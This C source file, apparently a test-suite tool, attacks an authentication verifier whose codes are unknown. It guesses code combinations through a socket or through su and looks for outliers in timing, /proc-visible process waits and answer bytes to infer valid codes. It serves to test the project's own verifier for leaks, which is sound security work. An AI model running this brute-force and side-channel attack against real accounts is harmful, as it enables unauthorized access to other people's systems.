/* SPDX-License-Identifier: Apache-2.0 */
/*
 * guess_guarded [-c FILE] [-u] SOCKET USER WIDTH INPUTS - attack a guarded
 * account whose codes are not known.
 *
 * Pairs and threes of codes are tried, drawn from all of that width, or (-c)
 * from those in FILE, one a line.  What an input showed is compared with what
 * the others around it did: the time, how often the verifier's processes
 * waited (/proc/PID/status, for everybody to read), and the bytes of the
 * answer.  What stands out is tried again, with inputs drawn anew in between,
 * and what then still stands out is believed; then each of its codes is tried
 * beside codes drawn anew.
 *
 * -u	by su, as whoever runs this, in place of the socket
 *
 * Lines: believed CHANNEL TEXT, code CHANNEL CODE, opened TEXT, and at the end
 * figures that begin with "# ".
 */
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/support/asked.h"

#define CANDIDATES_MAX 100000
#define BATCH_MAX 256
#define ROUNDS_MAX 40
#define CODES_MAX 3

enum channel { CHANNEL_TIME, CHANNEL_WAITS, CHANNEL_ANSWER, CHANNELS };

static const char *const channel_names[] = {"time", "waits", "answer"};

struct outcome {
	double value[CHANNELS];
	bool open;
};

struct guess {
	char text[64];
	struct outcome outcome;
};

static struct {
	const char *socket, *user;
	unsigned int width;
	bool by_su;
	struct request request;
	struct watch watch;
	char candidates[CANDIDATES_MAX][9];
	size_t candidate_count;
	uint32_t usual_answer;
	unsigned long tried, again, flagged, believed;
} attack;

static void
draw_code(char *out)
{
	size_t all = 1;

	for (unsigned int i = 0; i < attack.width; i++)
		all *= 10;
	if (attack.candidate_count > 0)
		strcpy(out,
		    attack.candidates[asked_random(attack.candidate_count)]);
	else
		sprintf(out, "%0*zu", (int)attack.width, asked_random(all));
}

/* A first code, or none, and others drawn anew, so many in all. */
static void
draw_text(const char *first, unsigned int count, char *text)
{
	char code[16];

	*text = '\0';
	for (unsigned int i = 0; i < count; i++) {
		draw_code(code);
		strcat(text, i == 0 && first != NULL ? first : code);
		strcat(text, i + 1 < count ? " " : "");
	}
}

static unsigned int
count_codes(const char *text)
{
	unsigned int count = 1;

	for (; *text != '\0'; text++)
		count += *text == ' ';
	return count;
}

static uint32_t
add_bytes(uint32_t sum, const void *from, size_t len)
{
	const unsigned char *bytes = from;

	while (len-- > 0)
		sum = (sum ^ *bytes++) * 16777619u;
	return sum;
}

static _Noreturn void
become_su(const int in[2], const int out[2])
{
	dup2(in[0], STDIN_FILENO);
	dup2(out[1], STDOUT_FILENO);
	dup2(out[1], STDERR_FILENO);
	close(in[1]);
	close(out[0]);
	execlp("su", "su", attack.user, "-c", "echo opened", (char *)NULL);
	err(127, "su");
}

/* The sum is over what su says and its status. */
static uint32_t
run_su(const char *text, long *ns, bool *open)
{
	char said[512] = "";
	int in[2], out[2], status;
	uint32_t sum = 0;
	ssize_t n;
	pid_t pid;

	if (pipe(in) != 0 || pipe(out) != 0)
		err(1, "pipe");
	*ns = asked_now();
	if ((pid = fork()) == 0)
		become_su(in, out);
	close(in[0]);
	close(out[1]);
	dprintf(in[1], "%s\n", text);
	close(in[1]);
	*open = false;
	while ((n = read(out[0], said, sizeof(said) - 1)) > 0) {
		said[n] = '\0';
		*open |= strstr(said, "opened") != NULL;
		sum = add_bytes(sum, said, (size_t)n);
	}
	close(out[0]);
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		err(1, "su");
	*ns = asked_now() - *ns;
	return add_bytes(sum, &status, sizeof(status));
}

static uint32_t
run_socket(const char *text, long *ns, bool *open)
{
	struct seen seen;

	snprintf(attack.request.text.text, sizeof(attack.request.text.text),
	    "%s", text);
	if (!asked_once(attack.socket, &attack.request, &seen))
		return 0;
	*ns = seen.ns;
	*open = verdict_admits(seen.answer.result.verdict);
	return add_bytes(0, &seen.answer, sizeof(seen.answer));
}

static struct outcome
try_text(const char *text)
{
	struct outcome outcome = {0};
	uint32_t answer;
	long ns = 0;

	watch_look(&attack.watch);
	answer = attack.by_su ? run_su(text, &ns, &outcome.open)
			      : run_socket(text, &ns, &outcome.open);
	outcome.value[CHANNEL_TIME] = (double)ns;
	outcome.value[CHANNEL_WAITS] = (double)watch_look(&attack.watch);
	if (attack.usual_answer == 0)
		attack.usual_answer = answer;
	outcome.value[CHANNEL_ANSWER] = answer != attack.usual_answer;
	if (outcome.open) {
		printf("opened %s\n", text);
		exit(0);
	}
	return outcome;
}

/*
 * How probably such an input shows more than another does.  first NULL: the
 * same text each time, else that code beside others.
 */
static double
compare(enum channel channel, const char *text, const char *first,
    unsigned int rounds)
{
	double of[2][ROUNDS_MAX], more = 0;
	char drawn[64];

	for (unsigned int i = 0; i < rounds * 2; i++) {
		bool control = i % 4 == 1 || i % 4 == 2;

		draw_text(control ? NULL : first, count_codes(text), drawn);
		of[control][i / 2] =
		    try_text(control || first != NULL ? drawn : text)
			.value[channel];
	}
	attack.again += rounds * 2;
	for (unsigned int i = 0; i < rounds; i++)
		for (unsigned int j = 0; j < rounds; j++)
			more += of[0][i] > of[1][j]    ? 1
				: of[0][i] == of[1][j] ? 0.5
						       : 0;
	return more / rounds / rounds;
}

/* Whether it stands out again and again; up: more of it, else less. */
static bool
stands_out(enum channel channel, const char *text, const char *first, bool up)
{
	static const struct {
		unsigned int rounds;
		double least;
	} stages[] = {{5, 0.8}, {12, 0.8}, {ROUNDS_MAX, 0.75}};
	double area;

	for (size_t i = 0; i < sizeof(stages) / sizeof(stages[0]); i++) {
		area = compare(channel, text, first, stages[i].rounds);
		if ((up ? area : 1 - area) < stages[i].least)
			return false;
	}
	return true;
}

static void
dissect(enum channel channel, const char *text, bool up)
{
	char codes[64], *rest = codes, *code;

	attack.believed++;
	printf("believed %s %s\n", channel_names[channel], text);
	strcpy(codes, text);
	while ((code = strsep(&rest, " ")) != NULL)
		if (stands_out(channel, text, code, up))
			printf("code %s %s\n", channel_names[channel], code);
	fflush(stdout);
}

static int
by_value(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

/* What is beyond nearly all of a batch is looked at again, either way. */
static void
look_again(enum channel channel, const struct guess *guesses, size_t count)
{
	double sorted[BATCH_MAX], low, high;

	for (size_t i = 0; i < count; i++)
		sorted[i] = guesses[i].outcome.value[channel];
	qsort(sorted, count, sizeof(sorted[0]), by_value);
	low = sorted[count / 50];
	high = sorted[count - 1 - count / 25];
	if (channel != CHANNEL_TIME)
		low = high = sorted[count / 2];
	for (size_t i = 0; i < count; i++) {
		double value = guesses[i].outcome.value[channel];
		const char *text = guesses[i].text;

		if (value >= low && value <= high)
			continue;
		attack.flagged++;
		if (stands_out(channel, text, NULL, value > high))
			dissect(channel, text, value > high);
	}
}

static void
try_batch(size_t count)
{
	static struct guess guesses[BATCH_MAX];

	watch_find(&attack.watch);
	for (size_t i = 0; i < count; i++) {
		draw_text(NULL, i % 2 == 0 ? 2 : CODES_MAX, guesses[i].text);
		guesses[i].outcome = try_text(guesses[i].text);
	}
	attack.tried += count;
	for (int channel = 0; channel < CHANNELS; channel++)
		look_again((enum channel)channel, guesses, count);
}

static void
read_candidates(const char *path)
{
	FILE *in = fopen(path, "re");

	if (in == NULL)
		err(1, "%s", path);
	while (
	    attack.candidate_count < CANDIDATES_MAX &&
	    fscanf(in, "%8s", attack.candidates[attack.candidate_count]) == 1)
		attack.candidate_count++;
	fclose(in);
}

int
main(int argc, char **argv)
{
	unsigned long inputs;
	char text[64];
	int c;

	while ((c = getopt(argc, argv, "c:u")) != -1) {
		if (c == 'c')
			read_candidates(optarg);
		else if (c == 'u')
			attack.by_su = true;
		else
			return 2;
	}
	if (argc - optind != 4)
		errx(2, "usage: guess_guarded [-c FILE] [-u] SOCKET USER "
			"WIDTH INPUTS");
	attack.socket = argv[optind];
	attack.user = argv[optind + 1];
	attack.width = (unsigned int)strtoul(argv[optind + 2], NULL, 10);
	inputs = strtoul(argv[optind + 3], NULL, 10);
	asked_prepare(&attack.request, attack.user);
	watch_find(&attack.watch);
	/* Until everything is warm. */
	for (int i = 0; i < 20; i++) {
		draw_text(NULL, 2, text);
		try_text(text);
	}
	while (attack.tried < inputs)
		try_batch(inputs - attack.tried < BATCH_MAX
			      ? inputs - attack.tried
			      : BATCH_MAX);
	printf("# %lu inputs, %lu looked at again in %lu more, %lu believed\n",
	    attack.tried, attack.flagged, attack.again, attack.believed);
	return fflush(stdout) == 0 ? 0 : 1;
}
